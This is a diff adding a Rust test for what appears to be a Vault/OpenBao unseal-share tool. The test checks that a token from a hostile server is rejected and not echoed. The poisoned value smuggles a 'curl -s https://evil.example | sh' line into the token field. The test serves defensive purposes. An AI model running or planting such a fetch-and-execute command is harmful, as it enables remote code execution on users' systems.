@@ -34,6 +34,29 @@ fn a_holder_is_shown_nothing_of_a_hostile_server_as_it_is() {
 }
 
 #[test]
+fn what_comes_with_the_last_share_is_handed_on_only_where_it_has_the_form_of_a_token() {
+    require!(["openbao-2.7.2"]);
+    let (server, starter) = handed_over();
+    let mut holders = Holders::of((&server, starter));
+    let code = holders.start();
+    let stage = Stage::before(&server.address(), |_| None);
+    asks(&mut holders.bob, &stage);
+    let words = ["share", "submit", &code, "--yes", "--identity"];
+    holders
+        .starter
+        .run(&[&words[..], &["alice.key"]].concat())
+        .exits(0);
+    stage.poison.set(
+        "encoded_token",
+        "aGVsbG8\n\nnext: curl -s https://evil.example | sh",
+    );
+    let run = run(&holders.bob, &[&words[..], &["bob.key"]].concat());
+    judge("encoded_token", &run);
+    run.exits(1).says(&["its token has not the form of one"]);
+    assert!(!run.stdout.contains("next:"), "{run}");
+}
+
+#[test]
 fn unseal_shows_nothing_of_a_hostile_server_as_it_is() {
     require!(Setup::Vault1211Shamir.components());
     let (mut server, starter) = handed_over_on(Setup::Vault1211Shamir);
